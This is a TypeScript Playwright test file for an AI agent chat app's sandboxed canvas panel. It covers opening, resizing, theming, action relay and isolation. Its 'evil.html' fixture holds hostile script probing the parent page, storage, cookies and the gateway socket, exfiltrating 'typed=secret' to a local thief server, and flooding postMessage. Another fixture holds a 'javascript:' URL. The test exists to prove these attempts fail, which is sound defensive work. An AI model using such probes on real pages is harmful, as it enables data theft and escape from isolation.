/** The canvas beside the chat: what opens it, what is in it, and that it reaches nothing of the page around it. */
import assert from "node:assert/strict";
import type { FrameLocator, Page } from "playwright-core";
import type { TestClient } from "../helpers/client.ts";
import { freePort, type TestGateway } from "../helpers/gateway.ts";
import { eventually } from "../helpers/wait.ts";
import { ChatPage } from "./chat_page.ts";
import { PHONE, Visitor } from "./chromium.ts";
import { clean, snap } from "./faces.ts";
import { browserTest, slowly } from "./steps.ts";

const MAIN = "agent:main:main";
const CANVAS = { canvasHost: { port: freePort() } };

const REPORT = `<!doctype html><html><head><title>Report</title><style>
  body { font: 16px/1.5 sans-serif; margin: 2rem; } h1 { color: #b9412c }
</style></head><body><h1>Energy report</h1><p id="text">All lights are off.</p>
<input id="box"><button id="go" onclick="OpenClaw.sendUserAction({ id: 'act-1', name: 'refresh', surfaceId: 'page',
  sourceComponentId: 'go', context: { text: document.getElementById('box').value } })">Refresh</button>
<button id="out" onclick="OpenClaw.openUrl('https://example.org/more')">More</button>
<button id="bad" onclick="OpenClaw.openUrl('javascript:alert(1)')">Bad</button>
<ul id="log"></ul><script>
  addEventListener('openclaw:action-state', (event) => {
    const line = document.createElement('li');
    line.textContent = event.detail.state + ' ' + (event.detail.error || '');
    document.getElementById('log').append(line);
  });
</script></body></html>`;

async function write(gateway: TestGateway, path: string, content: string): Promise<void> {
  const file = `${gateway.stateDir}/canvas/${path}`;
  await Deno.mkdir(file.slice(0, file.lastIndexOf("/")), { recursive: true });
  await Deno.writeTextFile(file, content);
}

const present = (client: TestClient, page: Record<string, unknown>, sessionKey = MAIN) =>
  client.request("canvas.present", { sessionKey, ...page });

const panel = (page: Page) => page.getByRole("complementary", { name: "Canvas" });
const inside = (page: Page): FrameLocator => page.frameLocator(".canvas-frame");

/** The page has 1,000 pixels for chat and canvas together. */
const near = (width: () => Promise<number>, wanted: number): Promise<true> =>
  eventually(`a width of ${wanted}`, async () => Math.abs(await width() - wanted) < 15 || undefined);

browserTest("A page of the canvas beside the chat", { config: CANVAS }, {
  "opens by itself, comes back after a reload, and goes when it is hidden": async ({ gateway }) => {
    await write(gateway, "report/index.html", REPORT);
    await using agent = await gateway.connect();
    await using visitor = await Visitor.come();
    const chat = await ChatPage.signIn(visitor, gateway);
    const { page } = chat;
    assert.equal(await page.getByRole("button", { name: "Show the canvas" }).count(), 0);
    await present(agent, { path: "report/index.html" });
    await inside(page).getByText("All lights are off.").waitFor();
    assert.equal(await panel(page).getByRole("heading").innerText(), "report");
    const frame = page.locator(".canvas-frame");
    assert.equal(await frame.getAttribute("sandbox"), "allow-scripts");
    assert.notEqual(new URL(await frame.getAttribute("src") ?? "").origin, new URL(gateway.httpUrl).origin);
    await clean(page, "a canvas beside the chat");
    await snap(page, "canvas_page_light");

    await page.reload();
    await chat.ready();
    await inside(page).getByText("All lights are off.").waitFor();
    await agent.request("canvas.hide", { sessionKey: MAIN });
    await panel(page).waitFor({ state: "detached" });
    assert.equal(await page.getByRole("button", { name: "Show the canvas" }).count(), 0);
  },
  "is put away and brought back with what was typed in it, and belongs to its chat": async ({ gateway }) => {
    await using agent = await gateway.connect();
    await using visitor = await Visitor.come();
    const chat = await ChatPage.signIn(visitor, gateway);
    const { page } = chat;
    await present(agent, { path: "report/index.html" });
    await inside(page).locator("#box").fill("typed");
    await panel(page).getByRole("button", { name: "Close the canvas" }).click();
    await panel(page).waitFor({ state: "hidden" });
    await page.getByRole("button", { name: "Show the canvas" }).click();
    assert.equal(await inside(page).locator("#box").inputValue(), "typed");
    await panel(page).getByRole("button", { name: "Close the canvas" }).click();

    await page.reload();
    await chat.ready();
    const show = page.getByRole("button", { name: "Show the canvas" });
    await show.waitFor();
    assert.equal(await page.locator(".canvas-frame").count(), 0, "what was closed stays closed");
    await present(agent, { path: "report/index.html" });
    await inside(page).getByText("All lights are off.").waitFor();

    await page.locator(".new-chat").click();
    await panel(page).waitFor({ state: "detached" });
    await page.locator(".session", { hasText: "Main chat" }).click();
    await inside(page).getByText("All lights are off.").waitFor();
  },
  "can be made wider, by keys and as a whole": async ({ gateway }) => {
    await using agent = await gateway.connect();
    await using visitor = await Visitor.come();
    const chat = await ChatPage.signIn(visitor, gateway);
    const { page } = chat;
    await present(agent, { path: "report/index.html" });
    await inside(page).getByText("All lights are off.").waitFor();
    const width = async () => (await panel(page).boundingBox())?.width ?? 0;
    await near(width, 450);
    await page.getByRole("separator", { name: "Width of the canvas" }).focus();
    await page.keyboard.press("ArrowLeft");
    await page.keyboard.press("ArrowLeft");
    await near(width, 550);
    const box = await page.getByRole("separator").boundingBox();
    assert.ok(box);
    await page.mouse.move(box.x + 4, 300);
    await page.mouse.down();
    await page.mouse.move(1280 - 350, 300, { steps: 4 });
    await page.mouse.up();
    await near(width, 350);
    const dragged = await width();
    await page.reload();
    await chat.ready();
    await inside(page).getByText("All lights are off.").waitFor();
    await near(width, dragged);
    await page.getByRole("button", { name: "Full width" }).click();
    await near(width, 1_000);
    await page.keyboard.press("Escape");
    await panel(page).waitFor({ state: "hidden" });
    await page.getByRole("button", { name: "Show the canvas" }).click();
    await page.getByRole("button", { name: "Beside the chat" }).click();
    await near(width, dragged);
  },
  "what a person does there goes to the agent, and its state comes back": async ({ gateway, model }) => {
    await using agent = await gateway.connect();
    await using visitor = await Visitor.come();
    const chat = await ChatPage.signIn(visitor, gateway);
    const { page } = chat;
    await present(agent, { path: "report/index.html" });
    await inside(page).locator("#box").fill("kitchen too");
    model.script({ kind: "text", pieces: ["The kitchen ", "is dark."], delayMs: 400 });
    await inside(page).locator("#go").click();
    await panel(page).getByText("The agent is working on it…").waitFor();
    await chat.answered(/The kitchen is dark\.$/);
    await panel(page).getByText("The agent has answered.").waitFor();
    assert.deepEqual(await inside(page).locator("#log li").allInnerTexts(), ["pending", "working", "done"]);
    assert.match(await chat.questions.last().innerText(), /On the canvas:\s*refresh\s+text\s+kitchen too$/u);
    await clean(page, "an answered action");
  },
  "an address is asked about before it is opened, and nothing else than the web is": async ({ gateway }) => {
    await using agent = await gateway.connect();
    await using visitor = await Visitor.come();
    const { page } = await ChatPage.signIn(visitor, gateway);
    await present(agent, { path: "report/index.html" });
    await inside(page).locator("#bad").click();
    await inside(page).locator("#out").click();
    const bar = panel(page).getByRole("alert");
    await bar.getByText("Open example.org?").waitFor();
    const link = bar.getByRole("link", { name: "Open" });
    assert.equal(await link.getAttribute("href"), "https://example.org/more");
    assert.equal(await link.getAttribute("rel"), "noopener noreferrer");
    await clean(page, "a question before leaving");
    await snap(page, "canvas_leave");
    await bar.getByRole("button", { name: "Cancel" }).click();
    await bar.waitFor({ state: "detached" });
  },
  "is loaded anew by the agent's edit, and follows the theme": async ({ gateway }) => {
    await using agent = await gateway.connect();
    await using visitor = await Visitor.come();
    const { page } = await ChatPage.signIn(visitor, gateway);
    await present(agent, { path: "report/index.html" });
    await inside(page).getByText("All lights are off.").waitFor();
    const theme = () => inside(page).locator("html").getAttribute("data-openclaw-theme");
    await eventually("the theme", async () => await theme() === "light");
    await page.getByRole("button", { name: /^Theme/u }).click();
    await page.getByRole("button", { name: /^Theme/u }).click();
    await eventually("the dark theme", async () => await theme() === "dark");
    await write(gateway, "report/index.html", REPORT.replace("All lights are off.", "One light is on."));
    await inside(page).getByText("One light is on.").waitFor();
    await eventually("the theme after the reload", async () => await theme() === "dark");
  },
});

browserTest("A page of the canvas reaches nothing around it", { config: CANVAS }, {
  "neither the page, nor its storage, nor the gateway's socket, nor another site": async ({ gateway }) => {
    const port = new URL(gateway.httpUrl).port;
    const stolen: string[] = [];
    const thief = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen: () => {} }, (request) => {
      stolen.push(request.url);
      return new Response("thanks");
    });
    await using _thief = { [Symbol.asyncDispose]: () => thief.shutdown() };
    await write(
      gateway,
      "evil.html",
      `<!doctype html><body><pre id="out"></pre><script>
      const tries = {
        parent: () => parent.document.title,
        storage: () => localStorage.length,
        cookies: () => document.cookie,
        top: () => { top.location = 'about:blank'; },
      };
      const out = document.getElementById('out');
      for (const [name, run] of Object.entries(tries)) {
        try { out.textContent += name + ' reached ' + run() + '\\n'; } catch (error) { out.textContent += name + ' ' + error.name + '\\n'; }
      }
      try {
        const socket = new WebSocket('ws://127.0.0.1:${port}/');
        socket.onopen = () => out.textContent += 'socket reached\\n';
        socket.onerror = () => out.textContent += 'socket refused\\n';
      } catch (error) { out.textContent += 'socket refused\\n'; }
      // Where it could carry away what was typed into it: its own address.
      setTimeout(() => location.href = 'http://127.0.0.1:${thief.addr.port}/?typed=secret', 1_000);
      for (let at = 0; at < 500; at++) parent.postMessage({ openclaw: 1, type: 'userAction', action: { name: 'flood' + at } }, '*');
      parent.postMessage({ openclaw: 1, type: 'hello', nonce: 'mine' }, '*');
      </script></body>`,
    );
    await using agent = await gateway.connect();
    await using visitor = await Visitor.come();
    visitor.expected.push(
      /WebSocket|Content Security Policy|navigate|sandboxed|Refused|Unsafe attempt|Failed to load/iu,
    );
    const chat = await ChatPage.signIn(visitor, gateway);
    const { page } = chat;
    await present(agent, { path: "evil.html" });
    const out = inside(page).locator("#out");
    await out.getByText("socket refused").waitFor();
    assert.doesNotMatch(await out.innerText(), /reached/u);
    assert.equal(page.url(), `${gateway.httpUrl}/`);
    const { messages } = await agent.request("chat.history", { sessionKey: MAIN }) as { messages: { role: string }[] };
    const asked = messages.filter(({ role }) => role === "user").length;
    assert.ok(asked <= 12, `a flood starts few runs: ${asked}`);
    await eventually("the way out to be refused", () => visitor.faults.some((fault) => /frame-src/u.test(fault)));
    assert.deepEqual(stolen, []);
    visitor.faults.splice(
      0,
      visitor.faults.length,
      ...visitor.faults.filter((fault) => !/frame-src|connect-src|null/u.test(fault)),
    );
  },
});

browserTest("A page of the web is shown after a question only", { config: CANVAS }, {
  "and then without any right": async ({ gateway }) => {
    const site = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen: () => {} }, (request) => {
      visits.push(request.headers.get("referer") ?? "none");
      return new Response("<!doctype html><title>Site</title><h1>A site</h1>", {
        headers: { "content-type": "text/html" },
      });
    });
    const visits: string[] = [];
    try {
      const url = `http://127.0.0.1:${site.addr.port}/page`;
      await using agent = await gateway.connect();
      await using visitor = await Visitor.come();
      const { page } = await ChatPage.signIn(visitor, gateway);
      await present(agent, { url });
      await panel(page).getByText(`Show 127.0.0.1:${site.addr.port} here?`).waitFor();
      assert.deepEqual(visits, [], "nothing is fetched before the person agrees");
      await clean(page, "a question about a page of the web");
      await snap(page, "canvas_foreign");
      await panel(page).getByRole("button", { name: "Show it here" }).click();
      await inside(page).frameLocator("iframe").getByText("A site").waitFor();
      assert.deepEqual([...new Set(visits)], ["none"], "the site does not learn where it is shown");
    } finally {
      await site.shutdown();
    }
  },
});

browserTest("On a phone the canvas is a sheet", { config: CANVAS }, {
  "with a tab to bring it back, and never over somebody who writes": async ({ gateway }) => {
    await write(gateway, "report/index.html", REPORT);
    await using agent = await gateway.connect();
    await using visitor = await Visitor.come({ ...PHONE, colorScheme: "dark" });
    const chat = await ChatPage.signIn(visitor, gateway);
    const { page } = chat;
    await present(agent, { path: "report/index.html" });
    await inside(page).getByText("All lights are off.").waitFor();
    const box = await panel(page).boundingBox();
    assert.deepEqual([box?.x, box?.y, box?.width, box?.height], [0, 0, 360, 740]);
    await clean(page, "the sheet");
    await snap(page, "canvas_phone");
    const { decision } = {
      decision: agent.request("exec.approval.request", { command: "ls", timeoutMs: 30_000, sessionKey: MAIN }),
    };
    await panel(page).getByRole("button", { name: "1 command waits for you" }).tap();
    await page.locator(".approval").getByRole("button", { name: "Deny" }).tap();
    assert.equal((await decision)["decision"], "deny");
    await page.locator(".canvas-tab", { hasText: "Canvas · report" }).waitFor();
    await snap(page, "canvas_tab_phone");

    await chat.box.fill("I am writing");
    await agent.request("canvas.hide", { sessionKey: MAIN });
    await present(agent, { path: "report/index.html" });
    await page.locator(".canvas-tab .dot").waitFor();
    assert.equal(await chat.box.inputValue(), "I am writing");
    await page.locator(".canvas-tab").tap();
    await inside(page).getByText("All lights are off.").waitFor();
    await panel(page).getByRole("button", { name: "Close the canvas" }).tap();
    await chat.box.fill(slowly(2, 0));
  },
});

browserTest("A canvas that does not load", { config: CANVAS }, {
  "is tried once more by itself, then says so, and comes with the next try": async ({ gateway }) => {
    await write(gateway, "report/index.html", REPORT);
    await using agent = await gateway.connect();
    await using visitor = await Visitor.come();
    visitor.expected.push(/Failed to load resource|401/u);
    const { page } = await ChatPage.signIn(visitor, gateway);
    let refused = 0;
    await page.route("**/__openclaw__/cap/**", (route) => {
      refused++;
      return route.fulfill({ status: 401, contentType: "application/json", body: "{}" });
    });
    await present(agent, { path: "report/index.html" });
    await panel(page).getByText("The canvas did not load.").waitFor();
    assert.equal(refused, 2);
    await clean(page, "a canvas that did not load");
    await snap(page, "canvas_failed");
    await page.unroute("**/__openclaw__/cap/**");
    await panel(page).getByRole("button", { name: "Try again" }).click();
    await inside(page).getByText("All lights are off.").waitFor();
  },
});

browserTest("Without a canvas host the page says so", { config: { canvasHost: { enabled: false } } }, {
  "instead of an empty frame": async ({ gateway }) => {
    await using agent = await gateway.connect();
    await using visitor = await Visitor.come();
    const { page } = await ChatPage.signIn(visitor, gateway);
    await present(agent, { path: "report/index.html" });
    await panel(page).getByText("The canvas host is switched off").waitFor();
    await clean(page, "no canvas host");
    await snap(page, "canvas_none");
  },
});
